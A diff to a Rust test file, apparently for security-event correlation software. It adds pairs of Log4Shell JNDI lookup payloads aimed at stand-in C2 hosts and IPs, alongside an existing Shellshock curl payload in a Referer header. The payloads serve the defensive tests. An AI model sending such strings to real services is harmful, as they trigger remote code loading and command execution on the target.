@@ -320,6 +320,12 @@ fn who_stands_behind_a_proxy_and_what_was_called_and_sent_in_a_conversation_is_n
             json!({"email": {"to": ["bob@c.example"], "attachment": ["pay.exe"]}}),
         ),
         (jndi("198.51.100.1"), jndi("203.0.113.77")),
+        (jndi("c2-01.example"), jndi("c2-02.example")),
+        (jndi("203.0.113.9:1389"), jndi("203.0.113.9:4444")),
+        (
+            http("http_request_body_printable", "x=${jndi:ldap://c2-01.example/a}"),
+            http("http_request_body_printable", "x=${jndi:ldap://c2-02.example/a}"),
+        ),
         (
             http("http_refer", "() { :; }; curl 198.51.100.1"),
             http("http_refer", "() { :; }; curl 203.0.113.77"),
@@ -339,6 +345,7 @@ fn who_stands_behind_a_proxy_and_what_was_called_and_sent_in_a_conversation_is_n
     for (one, other) in [
         (http("http_user_agent", "curl/8.1"), http("http_user_agent", "curl/8.2")),
         (http("http_user_agent", "x"), http("http_refer", "https://a.example/17")),
+        (jndi("c2-01.example/3f9a1c0d"), jndi("c2-01.example/a17e00b2")),
         (
             http("http_refer", "https://a.example/?u=${GUID}&c=ab"),
             http("http_refer", "https://a.example/?u=${GUID}&c=xy"),
